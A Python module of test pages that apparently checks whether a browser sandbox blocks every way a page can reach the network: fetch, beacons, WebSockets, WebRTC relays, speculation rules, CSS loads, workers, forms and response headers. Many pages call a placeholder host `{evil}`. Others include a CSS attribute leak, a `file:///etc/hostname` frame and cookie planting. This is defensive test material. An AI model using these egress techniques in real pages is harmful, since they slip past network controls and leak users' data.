# ruff: noqa: E501 - pages are data, a line each
"""Every way that we know of in which a page can make its browser reach the network, one page each.

In a page, `{same}` is an address of the page's own origin that no contract lists, `{other}` the same on another
origin, `{name}` a host name that only this technique uses; `{host}`, `{app}` and `{evil}` are the addresses
alone, `{tcp}`, `{udp}` and `{stun}` the ports of listeners without HTTP.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Technique:
    """One page. `listed` are further requests of its contract: method, path, body, content type. `fails`: the
    read must fail, whatever reached the network. `alone`: it burdens the machine, and runs by itself."""

    id: str
    group: str
    html: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    listed: tuple[tuple[str, str, str, str], ...] = ()
    entry: str = ""
    fails: bool = False
    alone: bool = False


def _js(code: str) -> str:
    return f"<script>{code}</script>"


def _each(code: str) -> str:
    """The code once for each target, as `u`."""
    return _js(f"for (const u of ['{{same}}', '{{other}}']) try {{ {code} }} catch (e) {{}}")


def _loaded(code: str) -> str:
    return _js(
        f"addEventListener('load', () => {{ for (const u of ['{{same}}', '{{other}}']) try {{ {code} }} catch (e) {{}} }})"
    )


def _tags(tag: str) -> str:
    return tag.replace("{u}", "{same}") + tag.replace("{u}", "{other}")


def _get(path: str) -> tuple[str, str, str, str]:
    return ("GET", path, "", "")


_QUERY = ("POST", "/api/query", '{"status":"pending"}', "application/json")
_JSON = "headers: {'content-type': 'application/json'}"
_RTC = "p.createDataChannel('d'); p.createOffer().then(o => p.setLocalDescription(o)); window.kept = p;"
_FRAME = "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow;"
_IN_WORKER = "fetch('{app}{same}').catch(() => 0); fetch('{other}', {mode: 'no-cors'}).catch(() => 0);"


def _worker(code: str, kind: str = "Worker") -> str:
    text = code.replace("\\", "\\\\").replace("`", "\\`")
    return _js(
        f"try {{ window.kept = new {kind}(URL.createObjectURL(new Blob([`{text}`], {{type: 'text/javascript'}}))) }} catch (e) {{}}"
    )


def _rules(rules: str) -> str:
    return _js(
        "addEventListener('load', () => { const s = document.createElement('script');"
        f" s.type = 'speculationrules'; s.text = JSON.stringify({rules}); document.head.append(s); }})"
    )


def _group(name: str, fails: bool, *rows: tuple[str, str]) -> Iterator[Technique]:
    for identity, html in rows:
        yield Technique(identity, name, html, fails=fails)


_SCRIPTS = (
    ("fetch", _each("fetch(u, {mode: 'no-cors'}).catch(() => 0)")),
    ("fetch_post", _each("fetch(u, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)")),
    ("fetch_put", _each("fetch(u, {method: 'PUT'}).catch(() => 0)")),
    ("fetch_delete", _each("fetch(u, {method: 'DELETE'}).catch(() => 0)")),
    ("fetch_preflight", _js("fetch('{other}', {method: 'PATCH', headers: {'x-a': '1'}}).catch(() => 0)")),
    ("fetch_credentials", _each("fetch(u, {credentials: 'include', mode: 'no-cors'}).catch(() => 0)")),
    ("fetch_keepalive", _each("fetch(u, {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}).catch(() => 0)")),
    ("fetch_priority", _each("fetch(u, {priority: 'high', mode: 'no-cors'}).catch(() => 0)")),
    ("fetch_integrity", _each("fetch(u, {integrity: 'sha256-x', mode: 'cors'}).catch(() => 0)")),
    ("fetch_userinfo", _js("new Image().src = 'http://{host}:8000@{evil}:8000/x/fetch_userinfo'")),
    ("fetch_named_host", _js("fetch('http://{name}:8000/x/y', {mode: 'no-cors'}).catch(() => 0)")),
    ("fetch_numeric_host", _js("fetch('http://' + (203 * 2 ** 24 + 7) + ':8000/x/y', {mode: 'no-cors'}).catch(() => 0)")),
    ("xhr", _each("const x = new XMLHttpRequest(); x.open('GET', u); x.send()")),
    ("xhr_sync", _each("const x = new XMLHttpRequest(); x.open('GET', u, false); x.send()")),
    ("xhr_upload", _each("const x = new XMLHttpRequest(); x.open('POST', u); x.upload.onprogress = () => 0; x.send('x')")),
    ("beacon", _each("navigator.sendBeacon(u, 'x')")),
    ("beacon_blob", _each("navigator.sendBeacon(u, new Blob(['x'], {type: 'text/plain'}))")),
    ("event_source", _each("window['k' + u] = new EventSource(u)")),
    ("dynamic_import", _each("import(u).catch(() => 0)")),
    ("import_json", _each("import(u, {with: {type: 'json'}}).catch(() => 0)")),
    ("wasm_streaming", _each("WebAssembly.instantiateStreaming(fetch(u)).catch(() => 0)")),
    ("image_object", _each("new Image().src = u")),
    ("image_decode", _each("const i = new Image(); i.src = u; i.decode().catch(() => 0)")),
    ("audio_object", _each("new Audio(u).load()")),
    ("font_face", _each("new FontFace('f', `url(${u})`).load().catch(() => 0)")),
    ("css_sheet", _each("const s = new CSSStyleSheet(); s.replace(`body { background: url(${u}) }`).then(() => document.adoptedStyleSheets = [s])")),
    ("css_variable", _each("document.documentElement.style.setProperty('background-image', `url(${u})`)")),
    ("ping", "<a id=a href='#' ping='{same} {other}'>p</a>" + _js("a.click()")),
    ("background_fetch", _each("navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('b', [u]))")),
    ("sync_manager", _js("navigator.serviceWorker.ready.then(r => r.sync.register('s'))")),
    ("cache_add", _each("caches.open('c').then(c => c.add(u)).catch(() => 0)")),
)  # fmt: skip

_LATER = (
    ("fetch_later", _each("fetchLater(u, {activateAfter: 100})")),
    ("fetch_later_get", _each("fetchLater(u, {method: 'GET', activateAfter: 0})")),
    ("fetch_later_post", _each("fetchLater(u, {method: 'POST', body: 'write', activateAfter: 50})")),
    ("fetch_later_unload", _each("fetchLater(u)")),
    ("beacon_pagehide", _js("addEventListener('pagehide', () => { for (const u of ['{same}', '{other}']) navigator.sendBeacon(u, 'x') })")),
    ("beacon_hidden", _js("addEventListener('visibilitychange', () => navigator.sendBeacon('{same}', 'x'))")),
    ("keepalive_pagehide", _js("addEventListener('pagehide', () => fetch('{other}', {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}))")),
    ("keepalive_stream", _loaded("setInterval(() => fetch(u, {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'}).catch(() => 0), 5)")),
    ("unload_sync", _js("addEventListener('unload', () => { const x = new XMLHttpRequest(); x.open('POST', '{same}', false); x.send('x') })")),
    ("beforeunload", _js("addEventListener('beforeunload', e => { e.preventDefault(); navigator.sendBeacon('{same}', 'x') })")),
    ("idle_callback", _js("requestIdleCallback(() => fetch('{same}').catch(() => 0))")),
    ("late_timer", _js("setTimeout(() => fetch('{same}').catch(() => 0), 60)")),
    ("report_observer", _js("new ReportingObserver(() => navigator.sendBeacon('{same}', 'r'), {buffered: true}).observe(); document.write('')")),
)  # fmt: skip

_BROWSER = (
    ("fedcm", _loaded("navigator.credentials.get({identity: {providers: [{configURL: u, clientId: '1', nonce: '2'}]}}).catch(() => 0)")),
    ("fedcm_register", _loaded("IdentityProvider.register(u).catch(() => 0)")),
    ("payment_manifest", _loaded("new PaymentRequest([{supportedMethods: new URL(u, location).href}], {total: {label: 't', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)")),
    ("webauthn", _loaded("navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), rpId: '{name}'}}).catch(() => 0)")),
    ("interest_group", _loaded("navigator.joinAdInterestGroup({owner: new URL(u, location).origin, name: 'n', biddingLogicURL: u}, 1000).catch(() => 0)")),
    ("ad_auction", _loaded("navigator.runAdAuction({seller: new URL(u, location).origin, decisionLogicURL: u, interestGroupBuyers: []}).catch(() => 0)")),
    ("shared_storage", _loaded("sharedStorage.worklet.addModule(u).catch(() => 0)")),
    ("shared_storage_worklet", _loaded("sharedStorage.createWorklet(u).catch(() => 0)")),
    ("private_token", _loaded("fetch(u, {privateToken: {version: 1, operation: 'token-request'}}).catch(() => 0)")),
    ("attribution_image", _tags("<img attributionsrc='{u}' src='data:,'>")),
    ("attribution_window", _loaded("window.open('about:blank', '_blank', `attributionsrc=${encodeURIComponent(u)}`)")),
    ("topics", _loaded("fetch(u, {browsingTopics: true}).catch(() => 0)")),
    ("speech", _loaded("const r = new webkitSpeechRecognition(); r.start()")),
    ("model", _loaded("LanguageModel.create().catch(() => 0); Translator.create({sourceLanguage: 'en', targetLanguage: 'fr'}).catch(() => 0)")),
    ("spellcheck", "<textarea lang=fr spellcheck=true autofocus>bonjuor le mnode</textarea>"),
    ("idle", "<p>nothing</p>"),
    ("geolocation", _loaded("navigator.geolocation.getCurrentPosition(() => 0)")),
    ("push", _loaded("navigator.serviceWorker.ready.then(r => r.pushManager.subscribe({userVisibleOnly: true}))")),
    ("share", _loaded("navigator.share({url: u}).catch(() => 0)")),
    ("protocol_handler", _loaded("navigator.registerProtocolHandler('web+x', u + '?%s')")),
    ("notification_icon", _loaded("new Notification('n', {icon: u})")),
    ("media_artwork", _loaded("navigator.mediaSession.metadata = new MediaMetadata({title: 't', artwork: [{src: u}]})")),
    ("contact_icons", _loaded("document.title = u")),
    ("get_installed", _loaded("navigator.getInstalledRelatedApps().catch(() => 0)")),
    ("storage_access", _loaded("document.requestStorageAccessFor(new URL(u, location).origin).catch(() => 0)")),
)  # fmt: skip

_SOCKETS = (
    ("websocket", _js("for (const h of ['{host}', '{evil}']) new WebSocket(`ws://${h}:8000/x/websocket`)")),
    ("websocket_named", _js("new WebSocket('ws://{name}:8000/x')")),
    ("websocket_frame", _js("addEventListener('DOMContentLoaded', () => {" + _FRAME + " window.kept = new w.WebSocket('ws://{evil}:8000/x/websocket_frame') })")),
    ("websocket_constructor", _js("window.kept = new WebSocket.prototype.constructor('ws://{evil}:8000/x/websocket_constructor')")),
    ("websocket_reflect", _js("window.kept = Reflect.construct(Object.getPrototypeOf(WebSocket.prototype).constructor === EventTarget ? WebSocket : WebSocket, ['ws://{evil}:8000/x/r'])")),
    ("websocket_stream", _js("for (const h of ['{host}', '{evil}']) window['k' + h] = new WebSocketStream(`ws://${h}:8000/x/websocket_stream`)")),
    ("websocket_worker", _worker("for (const h of ['{host}', '{evil}']) new WebSocket('ws://' + h + ':8000/x/websocket_worker')")),
    ("websocket_shared", _worker("new WebSocket('ws://{evil}:8000/x/websocket_shared')", "SharedWorker")),
    ("webtransport", _js("for (const h of ['{host}', '{evil}']) { const t = new WebTransport(`https://${h}:{udp}/x`); window['k' + h] = t; t.ready.catch(() => 0); t.closed.catch(() => 0) }")),
    ("webtransport_hash", _js("const t = window.kept = new WebTransport('https://{evil}:{udp}/x', {serverCertificateHashes: [{algorithm: 'sha-256', value: new Uint8Array(32)}]}); t.ready.catch(() => 0); t.closed.catch(() => 0)")),
    ("webtransport_named", _js("const t = window.kept = new WebTransport('https://{name}:{udp}/x'); t.ready.catch(() => 0); t.closed.catch(() => 0)")),
    ("webtransport_worker", _worker("const t = new WebTransport('https://{evil}:{udp}/x'); t.ready.catch(() => 0); t.closed.catch(() => 0)")),
    ("rtc_stun", _js("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{evil}:{stun}'}]});" + _RTC)),
    ("rtc_stun_named", _js("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{name}:{stun}'}]});" + _RTC)),
    ("rtc_stun_frame", _js("addEventListener('DOMContentLoaded', () => {" + _FRAME + " const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:{evil}:{stun}'}]});" + _RTC + "})")),
    ("rtc_turn_udp", _js("const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{evil}:{stun}', username: 'u', credential: 'c'}]});" + _RTC)),
    ("rtc_turn_tcp", _js("const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{evil}:{tcp}?transport=tcp', username: 'u', credential: 'c'}]});" + _RTC)),
    ("rtc_turns", _js("const p = new RTCPeerConnection({iceServers: [{urls: 'turns:{evil}:{tcp}?transport=tcp', username: 'u', credential: 'c'}]});" + _RTC)),
    ("rtc_relay_only", _js("const p = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: 'turn:{evil}:{tcp}?transport=tcp', username: 'u', credential: 'c'}]});" + _RTC)),
    ("rtc_candidate", _js("(async () => { const a = new RTCPeerConnection(), b = new RTCPeerConnection(); window.kept = [a, b]; a.createDataChannel('d'); await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription); await a.addIceCandidate({candidate: 'candidate:1 1 udp 2113937151 {evil} {udp} typ host', sdpMid: '0', sdpMLineIndex: 0}) })().catch(() => 0)")),
    ("rtc_candidate_tcp", _js("(async () => { const a = new RTCPeerConnection(), b = new RTCPeerConnection(); window.kept = [a, b]; a.createDataChannel('d'); await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription); await a.addIceCandidate({candidate: 'candidate:2 1 tcp 1518280447 {evil} {tcp} typ host tcptype passive', sdpMid: '0', sdpMLineIndex: 0}) })().catch(() => 0)")),
    ("direct_sockets", _loaded("new TCPSocket('{evil}', 8000).opened.catch(() => 0); new UDPSocket({remoteAddress: '{evil}', remotePort: 4433})")),
)  # fmt: skip

_HINTS = (
    ("preconnect", _tags("<link rel=preconnect href='{u}'>") + "<link rel=preconnect href='http://{evil}:{tcp}'>"),
    ("preconnect_named", "<link rel=preconnect href='http://{name}:8000'>"),
    ("dns_prefetch", "<link rel=dns-prefetch href='//{name}'>"),
    ("anchor_named", "<meta http-equiv=x-dns-prefetch-control content=on><a href='http://{name}/'>a</a>"),
    ("prefetch", _tags("<link rel=prefetch href='{u}'>")),
    ("prefetch_document", _tags("<link rel=prefetch as=document href='{u}'>")),
    ("prerender", _tags("<link rel=prerender href='{u}'>")),
    ("preload_fetch", _tags("<link rel=preload as=fetch crossorigin href='{u}'>")),
    ("preload_image", _tags("<link rel=preload as=image href='{u}' imagesrcset='{u} 1x'>")),
    ("preload_style", _tags("<link rel=preload as=style href='{u}'>")),
    ("modulepreload", _tags("<link rel=modulepreload href='{u}'>")),
    ("icon", _tags("<link rel=icon href='{u}'><link rel=apple-touch-icon href='{u}'>")),
    ("manifest", _tags("<link rel=manifest href='{u}'>")),
    ("dictionary", _tags("<link rel=compression-dictionary href='{u}'>")),
    ("search_description", _tags("<link rel=search type=application/opensearchdescription+xml href='{u}'>")),
    ("payment_link", _tags("<link rel=payment-method-manifest href='{u}'>")),
    ("stylesheet_disabled", _tags("<link rel='alternate stylesheet' href='{u}'>")),
    ("stylesheet_print", _tags("<link rel=stylesheet media=print href='{u}'>")),
    ("expect_render", "<link rel=expect href='#z' blocking=render>" + _tags("<link rel=stylesheet blocking=render href='{u}'>")),
    ("speculation_prefetch", _rules("{prefetch: [{urls: ['{same}', '{other}'], eagerness: 'immediate'}]}")),
    ("speculation_anonymous", _rules("{prefetch: [{urls: ['{other}'], eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin']}]}")),
    ("speculation_prerender", _rules("{prerender: [{urls: ['{same}', '{other}'], eagerness: 'immediate'}]}")),
    ("speculation_until_script", _rules("{prerender_until_script: [{urls: ['{same}'], eagerness: 'immediate'}]}")),
    ("speculation_blank", _rules("{prerender: [{urls: ['{same}'], eagerness: 'immediate', target_hint: '_blank'}]}")),
    ("speculation_written", "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"{same}\"], \"eagerness\": \"immediate\"}]}</script>"),
    ("speculation_links", "<a href='{same}'>a</a><script type=speculationrules>{\"prefetch\": [{\"where\": {\"href_matches\": \"/*\"}, \"eagerness\": \"immediate\"}]}</script>"),
)  # fmt: skip

_PARTS = (
    ("image", _tags("<img src='{u}'>")),
    ("image_set", _tags("<img srcset='{u} 1x, {u} 2x'>")),
    ("picture", _tags("<picture><source srcset='{u}'><img src='data:,'></picture>")),
    ("image_lazy", _tags("<img loading=lazy src='{u}'>")),
    ("input_image", _tags("<input type=image src='{u}'>")),
    ("body_background", "<table background='{same}'><tr><td background='{other}'>x</table>"),
    ("video", _tags("<video autoplay muted src='{u}' poster='{u}'></video>")),
    ("audio", _tags("<audio autoplay src='{u}'></audio>")),
    ("media_source", _tags("<video autoplay muted><source src='{u}'><track default src='{u}'></video>")),
    ("script", _tags("<script src='{u}'></script>")),
    ("script_module", _tags("<script type=module src='{u}'></script>")),
    ("script_deferred", _tags("<script defer src='{u}'></script><script async src='{u}?a'></script>")),
    ("script_svg", _tags("<svg><script href='{u}'></script></svg>")),
    ("import_map", "<script type=importmap>{\"imports\": {\"m\": \"{same}\"}}</script><script type=module>import 'm'</script>"),
    ("stylesheet", _tags("<link rel=stylesheet href='{u}'>")),
    ("css_import", "<style>@import '{same}'; @import url({other}) layer(x);</style>"),
    ("css_images", "<style>body { background: url({same}); list-style: url({other}); cursor: url({same}), auto } h1::before { content: url({other}) } h1 { border-image: url({same}) }</style>"),
    ("css_masks", "<style>h1 { mask-image: url({same}); -webkit-mask: url({other}); clip-path: url({same}#c); filter: url({other}#f); shape-outside: url({same}) }</style>"),
    ("css_font", "<style>@font-face { font-family: f; src: url({same}), url({other}) } body { font-family: f }</style>"),
    ("css_attribute_leak", "<input value=a><style>input[value^=a] { background: url({same}) }</style>"),
    ("css_image_set", "<style>body { background-image: image-set(url({same}) 1x, url({other}) 2x) }</style>"),
    ("css_cross_fade", "<style>body { background: -webkit-cross-fade(url({same}), url({other}), 50%) }</style>"),
    ("svg_image", _tags("<svg width=9 height=9><image href='{u}' width=9 height=9 /></svg>")),
    ("svg_use", _tags("<svg><use href='{u}#a'/></svg>")),
    ("svg_image_filter", _tags("<svg><filter id=f><feImage href='{u}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>")),
    ("svg_set", _tags("<svg><image><set attributeName=href to='{u}' /></image></svg>")),
    ("object", _tags("<object data='{u}'></object>")),
    ("embed", _tags("<embed src='{u}'>")),
    ("applet_param", _tags("<object type=application/x-java-applet><param name=src value='{u}'></object>")),
    ("portal", _tags("<portal src='{u}'></portal>")),
    ("html_template_clone", "<template id=t><img src='{same}'></template>" + _js("document.body.append(t.content.cloneNode(true))")),
    ("shadow_image", "<div><template shadowrootmode=closed><img src='{other}'></template></div>"),
    ("xslt", _js("const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(`<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:import href='{same}'/></x:stylesheet>`, 'text/xml'))")),
)  # fmt: skip

_FRAMES = (
    ("frame_same", "<iframe src='{same}'></iframe>"),
    ("frame_other", "<iframe src='{other}'></iframe>"),
    ("frame_credentialless", "<iframe credentialless src='{other}'></iframe>"),
    ("frame_sandboxed", "<iframe sandbox='allow-scripts' src='{other}'></iframe>"),
    ("frame_lazy", "<iframe loading=lazy src='{other}'></iframe>"),
    ("frame_srcdoc", "<iframe srcdoc=\"<img src='{same}'><img src='{other}'><script>fetch('{app}{same}').catch(() => 0)</script>\"></iframe>"),
    ("frame_data", "<iframe src=\"data:text/html,<img src='{other}'><script>fetch('{other}', {mode: 'no-cors'})</script>\"></iframe>"),
    ("frame_blob", "<iframe id=f></iframe>" + _js("f.src = URL.createObjectURL(new Blob(['<img src=\"{other}\"><img src=\"{app}{same}\">'], {type: 'text/html'}))")),
    ("frame_blank_fetch", _js("addEventListener('DOMContentLoaded', () => {" + _FRAME + " w.fetch('{app}{same}').catch(() => 0); w.fetch('{other}', {mode: 'no-cors'}).catch(() => 0); f.remove() })")),
    ("frame_blank_write", "<iframe id=f></iframe>" + _js("const d = f.contentDocument; d.open(); d.write('<img src=\"{other}\"><img src=\"{app}{same}\">'); d.close()")),
    ("frame_script_url", "<iframe src=\"javascript:fetch('{app}{same}').catch(() => 0)\"></iframe>"),
    ("frame_gone", _js("addEventListener('DOMContentLoaded', () => { for (let i = 0; i < 15; i++) {" + _FRAME + " w.navigator.sendBeacon('{app}{same}', 'x'); w.fetch('{other}', {keepalive: true, mode: 'no-cors'}).catch(() => 0); f.remove() } })")),
    ("frame_set", "<iframe srcdoc=\"<frameset><frame src='{other}'></frameset>\"></iframe>"),
    ("fenced_frame", "<fencedframe id=f></fencedframe>" + _js("f.config = new FencedFrameConfig('{other}')")),
    ("frame_navigated", "<iframe id=f></iframe>" + _js("addEventListener('load', () => { f.contentWindow.location = '{other}' })")),
)  # fmt: skip

_WORKERS = (
    ("worker_blob", _worker(_IN_WORKER)),
    ("worker_data", _js("new Worker(\"data:text/javascript,fetch('{other}', {mode: 'no-cors'})\")")),
    ("worker_script", _js("new Worker('{same}')")),
    ("worker_module", _js("new Worker('{same}', {type: 'module'})")),
    ("worker_import", _worker("try { importScripts('{app}{same}') } catch (e) {} try { importScripts('{other}') } catch (e) {}")),
    ("worker_nested", _worker("new Worker(URL.createObjectURL(new Blob(['fetch(\"{other}\", {mode: \"no-cors\"})'])))")),
    ("worker_xhr", _worker("const x = new XMLHttpRequest(); x.open('GET', '{app}{same}', false); x.send()")),
    ("worker_event_source", _worker("new EventSource('{other}')")),
    ("shared_worker", _js("new SharedWorker('{same}')")),
    ("shared_worker_blob", _worker(_IN_WORKER, "SharedWorker")),
    ("audio_worklet", _js("new AudioContext().audioWorklet.addModule('{same}').catch(() => 0)")),
    ("audio_worklet_offline", _js("new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('{other}').catch(() => 0)")),
    ("paint_worklet", _js("CSS.paintWorklet.addModule('{same}').catch(() => 0)")),
    ("layout_worklet", _js("CSS.layoutWorklet.addModule('{same}').catch(() => 0)")),
    ("animation_worklet", _js("CSS.animationWorklet.addModule('{same}').catch(() => 0)")),
    ("service_worker_unlisted", _js("navigator.serviceWorker.register('{same}').catch(() => 0)")),
)  # fmt: skip

_MOVES = (
    ("form_get", "<form id=f action='{same}'><input name=a value=b></form>" + _js("f.submit()")),
    ("form_post", "<form id=f method=post action='{same}'><input name=a value=b></form>" + _js("f.submit()")),
    ("form_other", "<form id=f method=post action='{other}'><input name=a value=b></form>" + _js("f.submit()")),
    ("form_blank", "<form id=f method=post target=_blank action='{other}'><input name=a value=b></form>" + _js("f.submit()")),
    ("form_frame", "<iframe name=x></iframe><form id=f method=post target=x action='{same}'></form>" + _js("f.submit()")),
    ("form_button", "<form id=f><button id=b formaction='{same}' formmethod=post>b</button></form>" + _js("b.click()")),
    ("form_multipart", "<form id=f method=post enctype=multipart/form-data action='{same}'><input name=a value=b></form>" + _js("f.requestSubmit()")),
    ("open_window", _js("window.open('{same}'); window.open('{other}')")),
    ("open_noopener", _js("window.open('{other}', '_blank', 'noopener')")),
    ("open_blank_driven", _js("const w = window.open('about:blank'); if (w) { w.location = '{app}{same}'; w.fetch('{app}{same}').catch(() => 0) }")),
    ("open_blank_socket", _js("const w = window.open('about:blank'); if (w) { window.kept = new w.WebSocket('ws://{evil}:8000/x/s'); w.navigator.sendBeacon('{app}{same}', 'x') }")),
    ("anchor_blank", "<a id=a target=_blank href='{other}'>a</a>" + _js("a.click()")),
    ("anchor_self", "<a id=a href='{same}'>a</a>" + _js("a.click()")),
    ("area", "<map name=m><area id=a href='{same}' shape=default></map><img usemap='#m' src='data:,'>" + _js("a.click()")),
    ("location", _js("addEventListener('load', () => { location.href = '{same}' })")),
    ("location_other", _js("addEventListener('load', () => { location.replace('{other}') })")),
    ("location_reload", _js("addEventListener('load', () => location.reload())")),
    ("location_early", _js("location.href = '{other}'")),
    ("history_push", _js("addEventListener('load', () => history.pushState(0, '', '/admin'))")),
    ("history_hash", _js("addEventListener('load', () => { location.hash = '#/elsewhere' })")),
    ("navigation_api", _js("addEventListener('load', () => navigation.navigate('{same}'))")),
    ("meta_refresh", "<meta http-equiv=refresh content='0;url={same}'>"),
    ("meta_refresh_other", "<meta http-equiv=refresh content='0;url={other}'>"),
    ("download_named", "<a id=a download=x href='{same}'>a</a>" + _js("a.click()")),
    ("download_blob", "<a id=a download=x>a</a>" + _js("a.href = URL.createObjectURL(new Blob(['x'])); a.click()")),
    ("alert", _js("addEventListener('load', () => alert('x'))")),
    ("confirm", _js("addEventListener('load', () => confirm('x'))")),
    ("prompt", _js("addEventListener('load', () => prompt('x'))")),
)  # fmt: skip

_QUIET_MOVES = (
    ("print", _js("addEventListener('load', () => print())")),
    ("file_frame", "<iframe src='file:///etc/hostname'></iframe>"),
    ("mail_link", "<a id=a href='mailto:x@{name}'>a</a>" + _js("a.click()")),
    ("odd_scheme", "<iframe src='foo://{name}/'></iframe>"),
    ("view_source", "<a id=a href='view-source:{other}'>a</a>" + _js("a.click()")),
    ("browser_page", _js("window.open('chrome://net-internals'); location.href = 'chrome://version'")),
    ("rewritten", _js("addEventListener('load', () => { document.open(); document.write('<h1>Forged</h1><img src=\"{same}\">'); document.close() })")),
)  # fmt: skip

_HEADERS: tuple[tuple[str, tuple[tuple[str, str], ...]], ...] = (
    ("header_link_preload", (("Link", "<{same}>; rel=preload; as=style, <{other}>; rel=preload; as=style"),)),
    ("header_link_prefetch", (("Link", "<{same}>; rel=prefetch, <{other}>; rel=prefetch"),)),
    ("header_link_preconnect", (("Link", "<http://{evil}:{tcp}>; rel=preconnect, <//{name}>; rel=dns-prefetch"),)),
    ("header_refresh", (("Refresh", "0;url={other}"),)),
    ("header_speculation", (("Speculation-Rules", '"{same}"'),)),
    ("header_sourcemap", (("SourceMap", "{same}"),)),
    ("header_report_only", (("Content-Security-Policy-Report-Only", "default-src 'none'; report-uri {same} {other}"),)),
    ("header_reporting", (("Reporting-Endpoints", 'a="{app}{same}", default="{other}"'),
                          ("Document-Policy-Report-Only", "document-write=?0;report-to=a"))),
    ("header_report_to", (("Report-To", '{{"group":"g","max_age":9,"endpoints":[{{"url":"{other}"}}]}}'.replace("{{", "{").replace("}}", "}")),
                          ("NEL", '{"report_to":"g","max_age":9,"success_fraction":1.0}'))),
    ("header_coep_report", (("Cross-Origin-Embedder-Policy-Report-Only", 'require-corp; report-to="a"'),
                            ("Reporting-Endpoints", 'a="{app}{same}"'))),
    ("header_expect_ct", (("Expect-CT", 'max-age=9, report-uri="{other}"'),)),
    ("header_alt_svc", (("Alt-Svc", 'h3=":4433"; ma=999, h2="{evil}:8002"'),)),
    ("header_dictionary", (("Link", '<{same}>; rel="compression-dictionary"'),)),
    ("header_critical_ch", (("Accept-CH", "Sec-CH-UA-Full-Version-List"), ("Critical-CH", "Sec-CH-UA-Full-Version-List"))),
    ("header_set_cookie", (("Set-Cookie", "planted=1; Path=/"),)),
    ("header_clear_site", (("Clear-Site-Data", '"*"'),)),
    ("header_activate", (("Activate-Storage-Access", "retry; allowed-origin=*"),)),
    ("header_attribution", (("Attribution-Reporting-Register-Source", '{"source_event_id":"1","destination":"http://x.invalid"}'),)),
    ("header_service_worker", (("Service-Worker-Allowed", "/"), ("Link", "<{same}>; rel=serviceworker"))),
)  # fmt: skip

_SPECIAL = (
    Technique("benign", "control", "<ul><li>Order 1001</li></ul><button>Search</button>"),
    Technique("benign_fragment", "control", _js("fetch('/api/list#x').catch(() => 0)"), listed=(_get("/api/list"),)),
    Technique("benign_post", "control", _js(f"fetch('/api/query', {{method: 'POST', {_JSON}, body: '{{\"status\":\"pending\"}}'}})"), listed=(_QUERY,)),
    Technique("listed_query_added", "listed", _js("fetch('/api/list?x=1').catch(() => 0)"), listed=(_get("/api/list"),), fails=True),
    Technique("listed_question_mark", "listed", _js("fetch('/api/list?').catch(() => 0)"), listed=(_get("/api/list"),), fails=True),
    Technique("listed_spellings", "listed", _js("for (const u of ['/api/list/', '/api//list', '/API/list', '/api/%6cist', '/api/list;x', '/api/list%00', '/api/list%20']) fetch(u).catch(() => 0)"), listed=(_get("/api/list"),), fails=True),
    Technique("listed_other_method", "listed", _js("for (const m of ['PUT', 'DELETE', 'HEAD', 'OPTIONS', 'PATCH']) fetch('/api/list', {method: m}).catch(() => 0)"), listed=(_get("/api/list"),), fails=True),
    Technique("listed_other_body", "listed", _js(f"fetch('/api/query', {{method: 'POST', {_JSON}, body: '{{\"status\":\"paid\"}}'}}).catch(() => 0)"), listed=(_QUERY,), fails=True),
    Technique("listed_binary_body", "listed", _js(f"fetch('/api/query', {{method: 'POST', {_JSON}, body: new Uint8Array([255, 0])}}).catch(() => 0)"), listed=(_QUERY,), fails=True),
    Technique("listed_blob_body", "listed", _js("fetch('/api/query', {method: 'POST', body: new Blob(['DELETE ALL'])}).catch(() => 0)"), listed=(("POST", "/api/query", "", ""),)),
    Technique("listed_form_body", "listed", _js("const f = new FormData(); f.append('a', 'b'); fetch('/api/query', {method: 'POST', body: f}).catch(() => 0)"), listed=(("POST", "/api/query", "", ""),), fails=True),
    Technique("listed_stream_body", "listed", _js("fetch('/api/query', {method: 'POST', duplex: 'half', body: new ReadableStream({start(c) { c.enqueue(new TextEncoder().encode('DELETE')); c.close() }})}).catch(() => 0)"), listed=(("POST", "/api/query", "", ""),)),
    Technique("listed_headers", "listed", _js("fetch('/api/query', {method: 'POST', headers: {'content-type': 'application/json', 'X-HTTP-Method-Override': 'DELETE', Authorization: 'Bearer x', 'X-Any': '1'}, body: '{\"status\":\"pending\"}'})"), listed=(_QUERY,)),
    Technique("listed_cookie", "listed", _js("document.cookie = 'role=admin; path=/'; fetch('/api/list').catch(() => 0)"), listed=(_get("/api/list"),)),
    Technique("listed_repeated", "listed", _js("for (let i = 0; i < 250; i++) fetch('/api/list').catch(() => 0)"), listed=(_get("/api/list"),), fails=True),
    Technique("listed_redirect", "listed", _js("fetch('/r/302').catch(() => 0)"), listed=(_get("/r/302"),), fails=True),
    Technique("listed_redirect_post", "listed", _js("fetch('/r/307', {method: 'POST', body: 'a', headers: {'content-type': 'text/plain'}}).catch(() => 0)"), listed=(("POST", "/r/307", "a", "text/plain"),), fails=True),
    Technique("listed_redirect_image", "listed", "<img src='/r/301'>", listed=(_get("/r/301"),), fails=True),
    Technique("listed_worker", "listed", _js("new SharedWorker('/r/worker.js')"), listed=(_get("/r/worker.js"),)),
